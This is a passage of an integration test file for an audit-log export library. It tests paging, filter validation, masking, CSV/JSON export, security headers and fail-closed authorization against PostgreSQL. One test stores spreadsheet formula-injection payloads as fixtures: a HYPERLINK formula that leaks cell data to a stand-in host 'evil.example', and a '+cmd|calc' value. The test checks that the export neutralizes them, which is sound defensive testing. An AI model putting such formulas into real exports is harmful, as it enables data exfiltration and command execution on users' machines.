import { INestApplication } from '@nestjs/common';
import { Test } from '@nestjs/testing';
import { TypeOrmModule } from '@nestjs/typeorm';
import { ActionRecorder, ActorRef, ThreadlineActorModule, ThreadlineContext } from '@threadline/actor';
import { CaptureService, ThreadlineCaptureModule } from '@threadline/capture';
import { ThreadlineHealthModule } from '@threadline/health';
import { ThreadlineProofModule } from '@threadline/proof';
import { createTestDatabase, initOrClose, TestDatabase } from '@threadline/testing';
import { parse } from 'csv-parse/sync';
import type { Request } from 'express';
import { createHash } from 'crypto';
import { mkdtempSync, readFileSync, rmSync } from 'fs';
import { tmpdir } from 'os';
import { join } from 'path';
import { ClientRequest, createServer, get, IncomingHttpHeaders } from 'http';
import type { AddressInfo } from 'net';
import request from 'supertest';
import {
  AUDIT_ACTION_FIELDS,
  AUDIT_CHANGE_FIELDS,
  CHANGE_DIFF_FIELDS,
  AUDIT_TRANSACTION_FIELDS,
  AuditQueryService,
  filtersFromParams,
  InvalidFilterError,
  TIMELINE_FILTERS,
} from '@threadline/query';
import { EXPORT_FORMATS, ExportCommand, ExportService, ThreadlineExportModule } from '@threadline/export';
import { OperatorOptions, ThreadlineOperatorModule } from '../src';

const SECRET = 'secret.person@example.com';
const TRICKY = 'comma, "quotes" and\nnew line';

describe('exploration and export (real PostgreSQL)', () => {
  let db: TestDatabase;
  let app: INestApplication;
  let queries: AuditQueryService;
  let exports: ExportService;

  async function boot(operator: OperatorOptions): Promise<INestApplication> {
    const moduleRef = await Test.createTestingModule({
      imports: [
        // No reconnect loop: a boot meant to fail must not keep retrying (and logging) after its test.
        TypeOrmModule.forRoot({ type: 'postgres', url: db.url, retryAttempts: 0 }),
        ThreadlineCaptureModule.forRoot({ tables: { people: { mask: ['email'] } } }),
        ThreadlineActorModule.forRoot({}),
        ThreadlineProofModule.forRoot({}),
        ThreadlineHealthModule.forRoot({}),
        ThreadlineExportModule,
        ThreadlineOperatorModule.forRoot(operator),
      ],
    }).compile();
    return initOrClose(moduleRef.createNestApplication({ logger: false }));
  }

  beforeAll(async () => {
    db = await createTestDatabase();
    await db.query(`CREATE TABLE people (id int PRIMARY KEY, name text, email text)`);
    app = await boot({
      authorize: (req: Request) => req.header('x-role') === 'auditor',
      traceUrl: 'https://tracing.example/trace/{traceId}?span={spanId}',
    });
    const capture = app.get(CaptureService);
    await db.query(capture.installSql().up);
    await db.query((await capture.triggerSql()).up);
    const context = app.get(ThreadlineContext);
    for (let i = 1; i <= 25; i++) {
      await context.transaction(ActorRef.user(String(i % 3)), (m) =>
        m.query(`INSERT INTO people VALUES ($1, $2, $3)`, [i, i === 1 ? TRICKY : `p${i}`, SECRET]),
      );
    }
    queries = app.get(AuditQueryService);
    exports = app.get(ExportService);
  });
  afterAll(async () => {
    await app.close();
    await db.drop();
  });

  it.each([
    [
      { tabel: 'people' },
      'unknown filter "tabel"; allowed filters are exactly table, actorRef, from, to, correlationId, op, key, transactionId',
    ],
    [{ correlationId: 42 }, 'correlationId must be a string'],
    [{ correlationId: '   ' }, 'correlationId must not be blank'],
    [{ correlationId: 'x'.repeat(257) }, 'correlationId must be at most 256 bytes'],
    [{ from: '2026-02-01', to: '2026-01-01' }, 'from (2026-02-01) is after to (2026-01-01)'],
    [
      { from: 'last tuesday' },
      'from must be an ISO 8601 date or timestamp such as 2026-01-31 or 2026-01-31T23:59:59Z (got "last tuesday")',
    ],
    [{ actorRef: 'robot:1' }, 'actor: Invalid actor (unknown_actor_type)'],
  ])('rejects the filter %j in timeline and export alike', async (filters, message) => {
    await expect(queries.timeline(filters as never)).rejects.toThrow(InvalidFilterError);
    await expect(queries.timeline(filters as never)).rejects.toThrow(message);
    await expect(exports.exportChanges(filters as never, { format: 'csv' })).rejects.toThrow(message);
  });

  it('pages by keyset cursor, newest first, without gaps or repeats', async () => {
    const seen: string[] = [];
    let cursor: string | undefined;
    do {
      const page = await queries.timeline({ table: 'people' }, { limit: 7, cursor });
      seen.push(...page.changes.map((c) => c.id));
      cursor = page.nextCursor ?? undefined;
    } while (cursor);
    expect(seen).toHaveLength(25);
    expect(new Set(seen).size).toBe(25);
    expect([...seen].sort((a, b) => Number(b) - Number(a))).toEqual(seen);
    await expect(queries.timeline({}, { cursor: 'bogus' })).rejects.toThrow('cursor is not one this API returned');
  });

  it('pages backwards with before: previous pages are the next pages in reverse, without gaps or repeats', async () => {
    const forward: string[][] = [];
    const cursors: (string | null | undefined)[] = [];
    let cursor: string | undefined;
    do {
      const page = await queries.timeline({ table: 'people' }, { limit: 7, cursor });
      forward.push(page.changes.map((c) => c.id));
      cursors.push(page.previousCursor);
      cursor = page.nextCursor ?? undefined;
    } while (cursor);
    expect(cursors[0]).toBeNull(); // the first page has no previous page
    // from the last page back to the first
    let before = cursors[cursors.length - 1]!;
    for (let i = forward.length - 2; i >= 0; i--) {
      const page = await queries.timeline({ table: 'people' }, { limit: 7, before });
      expect(page.changes.map((c) => c.id)).toEqual(forward[i]);
      if (i === 0) expect(page.previousCursor).toBeNull();
      else before = page.previousCursor!;
    }
    await expect(queries.timeline({}, { cursor: cursors[1]!, before: cursors[1]! })).rejects.toThrow(
      'pass cursor or before, not both',
    );
  });

  it('caps at maxRows with truncated and returnedCount', async () => {
    expect(await exports.exportChanges({}, { format: 'ndjson', maxRows: 10 })).toMatchObject({
      returnedCount: 10,
      truncated: true,
    });
    expect(await exports.exportChanges({}, { format: 'ndjson', maxRows: 25 })).toMatchObject({
      returnedCount: 25,
      truncated: false,
    });
    const json = JSON.parse((await exports.exportChanges({}, { format: 'json', maxRows: 3 })).body);
    expect(json).toMatchObject({ format_version: 1, returned_count: 3, truncated: true });
    expect(json.changes).toHaveLength(3);
  });

  it('writes CSV that round-trips through a CSV parser with commas, quotes and newlines, in the fixed column order', async () => {
    const { body } = await exports.exportChanges({ table: 'people' }, { format: 'csv' });
    const rows: Record<string, string>[] = parse(body, { columns: true });
    expect(Object.keys(rows[0])).toEqual([
      'id',
      'transaction_id',
      'table_schema',
      'table_name',
      'op',
      'captured_at',
      'table_pk',
      'data_after',
      'changed_fields',
      'changed_from',
      'transaction_json',
      'correlation_id',
      'action_id',
      'actor_type',
      'actor_id',
      'action_name',
    ]);
    const first = rows.find((r) => JSON.parse(r.table_pk).id === 1)!;
    expect(JSON.parse(first.data_after).name).toBe(TRICKY);
    expect(JSON.parse(first.transaction_json).actor_ref).toEqual({ type: 'user', id: '1' });
    // who and why as plain cells, for a spreadsheet
    expect(first).toMatchObject({ actor_type: 'user', actor_id: '1', action_name: '' });
    await db.query(`CREATE TABLE imports (id int PRIMARY KEY, name text)`);
    await db.query(`SELECT threadline_capture('public', 'imports', 'threadline_audit_imports', '{}'::jsonb)`);
    await app.get(ThreadlineContext).transaction(ActorRef.user('5'), async (manager) => {
      await manager.query(`INSERT INTO imports VALUES (1, 'with action')`);
      await app.get(ActionRecorder).recordAction('person.imported', { reason: 'CRM sync', manager });
    });
    const withAction: Record<string, string>[] = parse(
      (await exports.exportChanges({ table: 'imports' }, { format: 'csv' })).body,
      { columns: true },
    );
    expect(withAction).toEqual([
      expect.objectContaining({ actor_type: 'user', actor_id: '5', action_name: 'person.imported' }),
    ]);
  });

  it('the record history page says why on each change: the action and its reason, the correlation and request', async () => {
    const context = app.get(ThreadlineContext);
    await context.run({ correlationId: 'corr-77', requestId: 'req-77' }, () =>
      context.transaction(ActorRef.user('6'), async (manager) => {
        await manager.query(`INSERT INTO imports VALUES (2, 'why')`);
        await app.get(ActionRecorder).recordAction('person.imported', { reason: 'CRM <sync>', manager });
      }),
    );
    await db.query(`UPDATE imports SET name = 'no why' WHERE id = 2`);
    const page = await request(app.getHttpServer())
      .get('/audit/history')
      .query({ table: 'public.imports', key: '{"id":2}' })
      .set('accept', 'text/html')
      .set('x-role', 'auditor')
      .expect(200);
    const rows = page.text.split('<tr').slice(2); // after the header row: newest first
    expect(page.text).toContain('<th scope="col">Why</th>');
    expect(rows[0]).toContain('none recorded');
    expect(rows[1]).toMatch(/<strong>person\.imported<\/strong><br>CRM &lt;sync&gt;.*corr-77.*request<\/span> req-77/s);
  });

  it('keeps masked values masked in every format and route', async () => {
    for (const format of ['csv', 'json', 'ndjson'] as const) {
      const { body } = await exports.exportChanges({}, { format });
      expect(body).not.toContain(SECRET);
      expect(body).toContain('[REDACTED]');
    }
    const timeline = await request(app.getHttpServer()).get('/audit/timeline').set('x-role', 'auditor').expect(200);
    expect(JSON.stringify(timeline.body)).not.toContain(SECRET);
  });

  it('streams the export over HTTP with content type and file name, and answers bad parameters with 400 naming them', async () => {
    const csv = await request(app.getHttpServer())
      .get('/audit/export?format=csv&table=people')
      .set('x-role', 'auditor')
      .expect(200);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.headers['content-disposition']).toMatch(/^attachment; filename="audit-changes-.*\.csv"$/);
    expect(parse(csv.text, { columns: true })).toHaveLength(25);
    const nd = await request(app.getHttpServer())
      .get('/audit/export?format=ndjson&actor=user:1')
      .set('x-role', 'auditor')
      .expect(200);
    expect(nd.headers['content-type']).toBe('application/x-ndjson; charset=utf-8');
    expect(
      nd.text
        .trim()
        .split('\n')
        .every((line) => JSON.parse(line).transaction.actor_ref.id === '1'),
    ).toBe(true);

    const cases: [string, string][] = [
      ['/audit/export?format=xml', 'format must be one of the following values: csv, json, ndjson'],
      ['/audit/timeline?limit=0', 'limit must not be less than 1'],
      ['/audit/timeline?bogus=1', 'property bogus should not exist'],
      [
        '/audit/timeline?from=yesterday',
        'from must be an ISO 8601 date or timestamp such as 2026-01-31 or 2026-01-31T23:59:59Z (got "yesterday")',
      ],
      ['/audit/export?format=csv&actor=robot:1', 'actor: Invalid actor (unknown_actor_type)'],
    ];
    for (const [url, message] of cases) {
      const res = await request(app.getHttpServer()).get(url).set('x-role', 'auditor').expect(400);
      expect([res.body.message].flat().join('\n')).toContain(message);
    }
  });

  it('answers every bad input with 400 and one body shape, before any byte of an export is sent', async () => {
    const cursor = (capturedAt: string, id: string) =>
      Buffer.from(JSON.stringify([capturedAt, id])).toString('base64url');
    const bad: [string, string][] = [
      ['from=2026-02-30', 'from must be an ISO 8601 date'],
      ['from=1', 'from must be an ISO 8601 date'],
      ['to=+275760-09-13T00:00:00Z', 'to must be an ISO 8601 date'],
      ['from=2026-01-01T24:00:00Z', 'from must be an ISO 8601 date'],
      [`cursor=${cursor('2026-02-30T00:00:00Z', '1')}`, 'cursor is not one this API returned'],
      [`cursor=${cursor('2026-01-01T00:00:00Z', '99999999999999999999')}`, 'cursor is not one this API returned'],
      ['correlationId=a%00b', 'correlationId must not contain a NUL character'],
      ['table=people%00', 'table must not contain a NUL character'],
      ['limit=abc', 'limit must be an integer number'],
    ];
    for (const [query, message] of bad) {
      for (const route of ['/audit/timeline', '/audit/export?format=csv&x=1'.replace('&x=1', '')]) {
        if (query.startsWith('cursor') || query.startsWith('limit')) if (route.includes('export')) continue;
        const url = `${route}${route.includes('?') ? '&' : '?'}${query}`;
        const res = await request(app.getHttpServer()).get(url).set('x-role', 'auditor');
        expect({ url, status: res.status }).toEqual({ url, status: 400 });
        expect(res.headers['content-disposition']).toBeUndefined();
        expect(res.body).toEqual({ statusCode: 400, error: 'Bad Request', message: expect.any(String) });
        expect(res.body.message).toContain(message);
      }
    }
    // The app still answers.
    await request(app.getHttpServer()).get('/audit/timeline').set('x-role', 'auditor').expect(200);
  });

  it("answers a row's history as JSON and as a page, with the state after a chosen change; bad input is a 400", async () => {
    const server = app.getHttpServer();
    const context = app.get(ThreadlineContext);
    await context.transaction(ActorRef.user('9'), (m) => m.query(`UPDATE people SET name = 'renamed' WHERE id = 2`));
    const json = await request(server)
      .get('/audit/history')
      .query({ table: 'people', key: '{"id":2}' })
      .set('x-role', 'auditor')
      .expect(200);
    expect(json.body).toMatchObject({ table: 'people', key: { id: 2 }, nextCursor: null });
    expect(json.body.changes.map((c: { op: string }) => c.op)).toEqual(['update', 'insert']);
    const paged = await request(server)
      .get('/audit/history')
      .query({ table: 'people', key: '{"id":2}', limit: 1 })
      .set('x-role', 'auditor')
      .expect(200);
    expect(paged.body.nextCursor).toEqual(expect.any(String));
    const insertId = json.body.changes[1].id;
    const page = await request(server)
      .get('/audit/history')
      .query({ table: 'people', key: '{"id":2}', at: insertId })
      .set('x-role', 'auditor')
      .set('accept', 'text/html')
      .expect(200);
    expect(page.text).toContain('State after the change of');
    expect(page.text).toContain('&quot;p2&quot;'); // the name before the update, in the as-of state
    expect(page.text).not.toContain(SECRET);
    for (const [params, message] of [
      [{ table: 'people', key: 'id=2' }, "key must be a JSON object of the row's primary-key columns"],
      [{ table: 'people', key: '{"name":"x"}' }, 'the primary key of public.people is (id); got (name)'],
      [{ table: 'nope', key: '{"id":1}' }, 'public.nope is not a table'],
      [{ table: 'people', key: '{"id":2}', at: 'x' }, 'at must be a change id'],
      [{ table: 'people' }, 'key must be a string'],
    ] as const) {
      const res = await request(server).get('/audit/history').query(params).set('x-role', 'auditor').expect(400);
      expect(res.body).toEqual({ statusCode: 400, error: 'Bad Request', message: expect.stringContaining(message) });
      const html = await request(server)
        .get('/audit/history')
        .query(params)
        .set('x-role', 'auditor')
        .set('accept', 'text/html')
        .expect(400);
      expect(html.text).toMatch(/role="alert"|<title>Bad request/); // the page banner, or the error page for a malformed query
    }
  });

  it('filters by operation and by record key, in the timeline and the export alike; bad values are named', async () => {
    const context = app.get(ThreadlineContext);
    await context.transaction(ActorRef.user('4'), (m) => m.query(`UPDATE people SET name = 'x' WHERE id IN (3, 4)`));
    const updates = await queries.timeline({ table: 'people', op: 'update' });
    expect(updates.changes.length).toBeGreaterThanOrEqual(2);
    expect(updates.changes.every((c) => c.op === 'update')).toBe(true);
    expect(updates.changes.slice(0, 2).map((c) => c.table_pk)).toEqual([{ id: 4 }, { id: 3 }]);
    expect((await queries.timeline({ op: 'insert,update', key: '{"id":3}' })).changes.map((c) => c.op)).toEqual([
      'update',
      'insert',
    ]);
    const csv = await request(app.getHttpServer())
      .get('/audit/export')
      .query({ format: 'csv', op: 'update', key: '{"id":4}' })
      .set('x-role', 'auditor')
      .expect(200);
    expect((parse(csv.text, { columns: true }) as { op: string }[]).map((r) => r.op)).toEqual(['update']);
    for (const [query, message] of [
      [{ op: 'upsert' }, 'op must be one or more of insert, update, delete, truncate, snapshot'],
      [{ key: 'id=3' }, "key must be a JSON object of the row's primary-key columns"],
      [{ key: '[1]' }, 'key must be a JSON object'],
    ] as const) {
      const res = await request(app.getHttpServer())
        .get('/audit/timeline')
        .query(query)
        .set('x-role', 'auditor')
        .expect(400);
      expect(res.body.message).toContain(message);
    }
  });

  it('carries its manifest: the chain head it was cut at as a header, SHA-256, size and row count as trailers', async () => {
    // a server of its own over the same express app (the streaming tests below call app.listen)
    const server = createServer(app.getHttpAdapter().getInstance());
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    try {
      const { port } = server.address() as AddressInfo;
      const { headers, trailers, body } = await new Promise<{
        headers: IncomingHttpHeaders;
        trailers: NodeJS.Dict<string>;
        body: Buffer;
      }>((resolve, reject) => {
        get(
          { host: '127.0.0.1', port, path: '/audit/export?format=csv&table=people', headers: { 'x-role': 'auditor' } },
          (res) => {
            const parts: Buffer[] = [];
            res.on('data', (part: Buffer) => parts.push(part));
            res.on('end', () => resolve({ headers: res.headers, trailers: res.trailers, body: Buffer.concat(parts) }));
            res.on('error', reject);
          },
        ).on('error', reject);
      });
      expect(headers['x-threadline-sealed-through']).toMatch(/^\d+:[0-9a-f]{64}$/);
      expect(trailers).toEqual({
        'x-threadline-sha256': createHash('sha256').update(body).digest('hex'),
        'x-threadline-bytes': String(body.length),
        'x-threadline-row-count': String((parse(body.toString('utf8'), { columns: true }) as unknown[]).length),
      });
      const [seq] = headers['x-threadline-sealed-through']!.toString().split(':');
      const [{ chain }] = await db.query<{ chain: string }>(
        `SELECT encode(chain_sha256, 'hex') AS chain FROM audit_seals WHERE seq = $1`,
        [seq],
      );
      expect(headers['x-threadline-sealed-through']).toBe(`${seq}:${chain}`);
    } finally {
      await new Promise((resolve) => server.close(resolve));
    }
  });

  it('still exports when sealing fails, saying why in printable ASCII (a localized server message included)', async () => {
    await db.query(`CREATE OR REPLACE FUNCTION threadline_seal(max_transactions int DEFAULT 5000)
      RETURNS TABLE (sealed int, pending boolean, last_seq bigint) LANGUAGE plpgsql AS $$
      BEGIN RAISE EXCEPTION 'доступ запрещён: threadline_seal'; END $$`);
    try {
      const res = await request(app.getHttpServer())
        .get('/audit/export?format=ndjson&table=people')
        .set('x-role', 'auditor')
        .expect(200);
      expect(res.headers['x-threadline-sealed-through']).toBe('unavailable (?????? ????????: threadline_seal)');
      expect(res.text.trim().split('\n').length).toBeGreaterThan(0);
    } finally {
      await db.query(app.get(CaptureService).installSql().up);
    }
  });

  it('sends protective headers on every route, refusals included', async () => {
    const server = app.getHttpServer();
    const responses = [
      await request(server).get('/audit/timeline').set('x-role', 'auditor').expect(200),
      await request(server).get('/audit/timeline').set('x-role', 'auditor').set('accept', 'text/html').expect(200),
      await request(server).get('/audit/export?format=csv').set('x-role', 'auditor').expect(200),
      await request(server).get('/audit/coverage').set('accept', 'text/html').expect(403),
      await request(server).get('/audit/timeline?from=1').set('x-role', 'auditor').expect(400),
      await request(server).get('/audit/integrity').set('x-role', 'auditor').set('accept', 'text/html').expect(200),
      await request(server).get('/audit/integrity').set('x-role', 'auditor').expect(200),
    ];
    for (const res of responses) {
      expect(res.headers).toMatchObject({
        'cache-control': 'no-store',
        'x-frame-options': 'DENY',
        'x-content-type-options': 'nosniff',
        'referrer-policy': 'no-referrer',
      });
      expect(res.headers['content-security-policy']).toMatch(/default-src 'none'.*frame-ancestors 'none'/);
    }
  });

  it('exports hostile cells as text a spreadsheet will not run; JSON keeps the value as it is', async () => {
    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    await db.query(`CREATE TABLE hostile (id int PRIMARY KEY, name text)`);
    await db.query(`SELECT threadline_capture('public', 'hostile', 'threadline_audit_hostile', '{}'::jsonb)`);
    const context = app.get(ThreadlineContext);
    await context.run({ correlationId: hostile }, () =>
      context.transaction(ActorRef.user('8'), (m) => m.query(`INSERT INTO hostile VALUES (1, '+cmd|calc')`)),
    );
    const csv = await request(app.getHttpServer())
      .get('/audit/export')
      .query({ format: 'csv', table: 'hostile' })
      .set('x-role', 'auditor')
      .expect(200);
    const [row]: Record<string, string>[] = parse(csv.text, { columns: true });
    expect(row.correlation_id).toBe(`'${hostile}`);
    expect(JSON.parse(row.data_after)).toMatchObject({ name: '+cmd|calc' }); // inside JSON, not at the start of a cell
    const json = await request(app.getHttpServer())
      .get('/audit/export')
      .query({ format: 'json', table: 'hostile' })
      .set('x-role', 'auditor')
      .expect(200);
    expect(json.body.changes[0].transaction.correlation_id).toBe(hostile);
    // no link can switch the guard off unless the server opted in; machine consumers can then, per export
    const refused = await request(app.getHttpServer())
      .get('/audit/export')
      .query({ format: 'csv', table: 'hostile', csvFormulas: 'verbatim' })
      .set('x-role', 'auditor')
      .expect(400);
    expect(refused.body.message).toMatch(
      /csvFormulas=verbatim is not allowed on this server.*operator\.allowVerbatimCsvFormulas: true/,
    );
    const trusting = await boot({
      authorize: (req: Request) => req.header('x-role') === 'auditor',
      allowVerbatimCsvFormulas: true,
    });
    try {
      const verbatim = await request(trusting.getHttpServer())
        .get('/audit/export')
        .query({ format: 'csv', table: 'hostile', csvFormulas: 'verbatim' })
        .set('x-role', 'auditor')
        .expect(200);
      expect((parse(verbatim.text, { columns: true }) as Record<string, string>[])[0].correlation_id).toBe(hostile);
    } finally {
      await trusting.close();
    }
    const bad = await request(app.getHttpServer())
      .get('/audit/export')
      .query({ format: 'csv', csvFormulas: 'off' })
      .set('x-role', 'auditor')
      .expect(400);
    expect(bad.body.message).toContain('csvFormulas must be one of the following values: neutralize, verbatim');
    await expect(
      exports.exportChanges({ table: 'hostile' }, { format: 'csv', csvFormulas: 'off' as never }),
    ).rejects.toThrow('csvFormulas must be one of neutralize, verbatim (got "off")');
  });

  it('fails closed: 403 with no audit data when authorize says no or throws; refuses to mount without authorize', async () => {
    const denied = await request(app.getHttpServer()).get('/audit/timeline').expect(403);
    expect(denied.body).toEqual({ statusCode: 403, message: 'not authorized for audit routes', error: 'Forbidden' });
    await expect(boot({})).rejects.toThrow('operator.authorize is required to mount the audit pages and routes');
    for (const operator of [
      { authorize: () => false },
      {
        authorize: () => {
          throw new Error('boom');
        },
      },
    ] as OperatorOptions[]) {
      const closed = await boot(operator);
      try {
        for (const url of [
          '/audit/timeline',
          '/audit/export?format=json',
          '/audit/transactions/00000000-0000-0000-0000-000000000000/changes',
        ]) {
          const res = await request(closed.getHttpServer()).get(url).set('x-role', 'auditor').expect(403);
          expect(JSON.stringify(res.body)).not.toMatch(/people|REDACTED|changes/);
        }
      } finally {
        await closed.close();
      }
    }
  });

  it('a history key no row can have is a 400 naming the column and its type, never a database error', async () => {
    for (const key of [
      '{"id":"abc"}',
      '{"id":1.5}',
      '{"id":{"a":1}}',
      '{"id":[1]}',
      '{"id":2147483648}',
      '{"id":1e400}',
    ]) {
      const res = await request(app.getHttpServer())
        .get('/audit/history')
        .query({ table: 'people', key })
        .set('x-role', 'auditor')
        .expect(400);
      expect(res.body.message).toMatch(
        /^public\.people\.id is integer: the key must give it a value of that type \(got /,
      );
    }
    for (const url of [
      '/audit/history?table=people',
      '/audit/timeline?table=people',
      '/audit/export?format=json&table=people',
    ]) {
      const res = await request(app.getHttpServer())
        .get(url)
        .query({ key: '{"id":"\\u0000"}' })
        .set('x-role', 'auditor')
        .expect(400);
      expect(res.body.message).toContain('key must not contain a NUL character');
    }
    await request(app.getHttpServer())
      .get('/audit/history')
      .query({ table: 'people', key: '{"id":1}' })
      .set('x-role', 'auditor')
      .expect(200);
  });

  it('serves an OpenAPI document of the JSON routes only when asked, behind authorize, with the paths as mounted', async () => {
    // off by default: 404 for an auditor, 403 for anyone else
    const off = await request(app.getHttpServer()).get('/audit/openapi.json').set('x-role', 'auditor').expect(404);
    expect(off.body.message).toContain('set operator.openApi: true');
    await request(app.getHttpServer()).get('/audit/openapi.json').expect(403);
    await expect(boot({ authorize: () => true, openApi: 'yes' as never })).rejects.toThrow(
      'operator.openApi must be true or false (got "yes")',
    );

    const moduleRef = await Test.createTestingModule({
      imports: [
        TypeOrmModule.forRoot({ type: 'postgres', url: db.url, retryAttempts: 0 }),
        ThreadlineCaptureModule.forRoot({ tables: { people: { mask: ['email'] } } }),
        ThreadlineActorModule.forRoot({}),
        ThreadlineProofModule.forRoot({}),
        ThreadlineHealthModule.forRoot({}),
        ThreadlineExportModule,
        ThreadlineOperatorModule.forRoot({
          path: '/ops',
          openApi: true,
          authorize: (req: Request) => req.header('x-role') === 'auditor',
        }),
      ],
    }).compile();
    const withDoc = moduleRef.createNestApplication({ logger: false });
    withDoc.setGlobalPrefix('api');
    await initOrClose(withDoc);
    try {
      await request(withDoc.getHttpServer()).get('/api/ops/openapi.json').expect(403);
      const res = await request(withDoc.getHttpServer())
        .get('/api/ops/openapi.json')
        .set('x-role', 'auditor')
        .expect(200);
      expect(res.headers['cache-control']).toBe('no-store');
      const doc = res.body;
      expect(doc.openapi).toMatch(/^3\./);
      expect(Object.keys(doc.paths).sort()).toEqual([
        '/api/ops/coverage',
        '/api/ops/export',
        '/api/ops/history',
        '/api/ops/holds',
        '/api/ops/integrity',
        '/api/ops/policy/redaction',
        '/api/ops/timeline',
        '/api/ops/transactions/{id}/changes',
      ]);
      // every timeline filter is a documented query parameter, with the paging ones
      const params = (path: string) =>
        (doc.paths[path].get.parameters as { name: string; in: string }[]).map((p) => `${p.in}:${p.name}`).sort();
      expect(params('/api/ops/timeline')).toEqual(
        [...TIMELINE_FILTERS.map((f) => `query:${f.param}`), 'query:cursor', 'query:before', 'query:limit'].sort(),
      );
      expect(params('/api/ops/export')).toEqual(expect.arrayContaining(['query:format', 'query:csvFormulas']));
      // one row's history is the timeline's table and key filters: the same parameter names (the pages link with them)
      expect(params('/api/ops/history')).toEqual(
        expect.arrayContaining(
          TIMELINE_FILTERS.filter((f) => f.key === 'table' || f.key === 'key').map((f) => `query:${f.param}`),
        ),
      );
      expect(params('/api/ops/transactions/{id}/changes')).toEqual([
        'path:id',
        'query:before',
        'query:cursor',
        'query:limit',
      ]);
      // responses reference schemas a client generator can use; refusals have the one error shape
      const ok = doc.paths['/api/ops/timeline'].get.responses['200'].content['application/json'].schema.$ref;
      expect(ok).toBe('#/components/schemas/ChangePageSchema');
      // the schemas, the declaration and what the routes serve name the same fields
      const { AuditChangeSchema, AuditTransactionSchema } = doc.components.schemas;
      const served = (await queries.timeline({}, { limit: 1 })).changes[0];
      expect(Object.keys(AuditChangeSchema.properties)).toEqual(AUDIT_CHANGE_FIELDS.map((f) => f.name));
      expect(Object.keys(served)).toEqual(AUDIT_CHANGE_FIELDS.map((f) => f.name));
      expect(AuditChangeSchema.properties.transaction.allOf ?? [AuditChangeSchema.properties.transaction]).toEqual([
        { $ref: '#/components/schemas/AuditTransactionSchema' },
      ]);
      expect(Object.keys(AuditTransactionSchema.properties)).toEqual(AUDIT_TRANSACTION_FIELDS.map((f) => f.name));
      expect(Object.keys(served.transaction).sort()).toEqual(AUDIT_TRANSACTION_FIELDS.map((f) => f.name).sort());
      // the diff and the action: schema = declaration = what the transaction route serves
      const { ChangeDiffSchema, AuditActionSchema, TransactionChangesSchema } = doc.components.schemas;
      await db.query(`CREATE TABLE why_rows (id int PRIMARY KEY)`);
      await db.query(`SELECT threadline_capture('public', 'why_rows', 'threadline_audit_why_rows', '{}'::jsonb)`);
      const transactionId = await app.get(ThreadlineContext).transaction(ActorRef.user('6'), async (manager) => {
        await manager.query(`INSERT INTO why_rows VALUES (1)`);
        await app.get(ActionRecorder).recordAction('person.added', { reason: 'a test', manager });
        return (await manager.query(`SELECT transaction_id FROM audit_actions WHERE name = 'person.added'`))[0]
          .transaction_id as string;
      });
      const drill = await request(withDoc.getHttpServer())
        .get(`/api/ops/transactions/${transactionId}/changes`)
        .set('x-role', 'auditor')
        .expect(200);
      expect(Object.keys(ChangeDiffSchema.properties)).toEqual(CHANGE_DIFF_FIELDS.map((f) => f.name));
      expect(Object.keys(drill.body.changes[0].diff)).toEqual(CHANGE_DIFF_FIELDS.map((f) => f.name));
      expect(Object.keys(AuditActionSchema.properties)).toEqual(AUDIT_ACTION_FIELDS.map((f) => f.name));
      expect(drill.body.actions.map((a: object) => Object.keys(a))).toEqual([AUDIT_ACTION_FIELDS.map((f) => f.name)]);
      expect(Object.keys(TransactionChangesSchema.properties).sort()).toEqual(Object.keys(drill.body).sort());
      // an action recorded with no write has its own transaction: the route and the page show its "why" all the same
      await app
        .get(ActionRecorder)
        .recordAction('person.reviewed', { reason: 'nothing to change', actor: ActorRef.user('6') });
      const [{ transaction_id: lone }] = await db.query(
        `SELECT transaction_id FROM audit_actions WHERE name = 'person.reviewed'`,
      );
      const alone = await request(withDoc.getHttpServer())
        .get(`/api/ops/transactions/${lone}/changes`)
        .set('x-role', 'auditor')
        .expect(200);
      expect(alone.body).toMatchObject({ changes: [], actions: [{ name: 'person.reviewed', transaction_id: lone }] });
      const lonePage = await request(withDoc.getHttpServer())
        .get(`/api/ops/transactions/${lone}`)
        .set('x-role', 'auditor')
        .set('accept', 'text/html')
        .expect(200);
      expect(lonePage.text).toContain('person.reviewed');

      // two actions in one transaction: action_id names the last, but every surface shows both, and the first's
      // correlation id finds the transaction's changes
      const both = await app.get(ThreadlineContext).transaction(ActorRef.user('6'), async (manager) => {
        const recorder = app.get(ActionRecorder);
        await recorder.recordAction('person.flagged', { reason: 'first', correlationId: 'corr-first', manager });
        await manager.query(`INSERT INTO why_rows VALUES (2)`);
        await recorder.recordAction('person.cleared', { reason: 'second', correlationId: 'corr-second', manager });
        return (await manager.query(`SELECT transaction_id FROM audit_actions WHERE name = 'person.flagged'`))[0]
          .transaction_id as string;
      });
      const twice = await request(withDoc.getHttpServer())
        .get(`/api/ops/transactions/${both}/changes`)
        .set('x-role', 'auditor')
        .expect(200);
      expect(twice.body.actions.map((a: { name: string }) => a.name)).toEqual(['person.flagged', 'person.cleared']);
      const twicePage = await request(withDoc.getHttpServer())
        .get(`/api/ops/transactions/${both}`)
        .set('x-role', 'auditor')
        .set('accept', 'text/html')
        .expect(200);
      expect(twicePage.text).toMatch(/person\.flagged[\s\S]*person\.cleared/);
      const historyPage = await request(withDoc.getHttpServer())
        .get('/api/ops/history')
        .query({ table: 'why_rows', key: '{"id":2}' })
        .set('x-role', 'auditor')
        .set('accept', 'text/html')
        .expect(200);
      expect(historyPage.text).toMatch(/person\.flagged[\s\S]*person\.cleared/);
      // a transaction of 25 actions: the first 20 are shown, and the rest counted, not loaded
      const many = await app.get(ThreadlineContext).transaction(ActorRef.user('6'), async (manager) => {
        for (let n = 1; n <= 25; n++)
          await app.get(ActionRecorder).recordAction(`bulk.step${n}`, { reason: 'r'.repeat(9000), manager });
        return (await manager.query(`SELECT transaction_id FROM audit_actions WHERE name = 'bulk.step1'`))[0]
          .transaction_id as string;
      });
      const manyRoute = await request(withDoc.getHttpServer())
        .get(`/api/ops/transactions/${many}/changes`)
        .set('x-role', 'auditor')
        .expect(200);
      expect(manyRoute.body.actions.map((a: { name: string }) => a.name)).toEqual(
        Array.from({ length: 20 }, (_, i) => `bulk.step${i + 1}`),
      );
      expect(manyRoute.body.actions_total).toBe(25);
      const manyPage = await request(withDoc.getHttpServer())
        .get(`/api/ops/transactions/${many}`)
        .set('x-role', 'auditor')
        .set('accept', 'text/html')
        .expect(200);
      expect(manyPage.text).toContain('and 5 more actions recorded in this transaction (not shown)');
      expect(manyPage.text).not.toContain('bulk.step21');
